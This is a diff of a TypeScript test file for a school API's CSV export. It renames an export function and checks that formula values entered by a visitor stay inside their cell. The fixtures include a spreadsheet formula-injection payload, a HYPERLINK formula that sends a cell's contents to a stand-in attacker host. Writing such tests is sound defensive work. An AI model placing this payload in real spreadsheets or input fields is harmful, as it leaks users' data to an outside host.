@@ -1,9 +1,9 @@
 import { stringify } from 'csv-stringify/sync';
 import { describe, expect, it } from 'vitest';
 import { textTable } from '@/school-api/cli/table';
-import { asText } from '@/school-api/cli/write-records';
+import { renderText } from '@/school-api/cli/write-records';
 
-/** What makes a spreadsheet calculate, call out or run, however it begins. */
+/** Cell contents that a spreadsheet would evaluate. */
 const formulas = [
   '=1+1',
   '=HYPERLINK("https://evil.example.org/?"&A1,"x")',
@@ -27,7 +27,7 @@ async function exported(words: string): Promise<string> {
     yield [{ name: words, message: 'plain' }];
   }
   let text = '';
-  for await (const piece of asText(pages(), 'csv', ['name', 'message'])) text += piece;
+  for await (const piece of renderText(pages(), 'csv', ['name', 'message'])) text += piece;
   return text;
 }
 
@@ -44,7 +44,7 @@ describe('a visitor’s words in the office’s spreadsheet', () => {
     'stay in their cell: %j',
     async (words) => {
       const csv = await exported(words);
-      // Cut where a spreadsheet cuts: two lines of two cells, whatever stands in them.
+      // Split like a spreadsheet does: two lines of two cells.
       const cells = csv.slice(1).match(/"(?:[^"]|"")*"/g) ?? [];
       expect(cells).toHaveLength(4);
     },
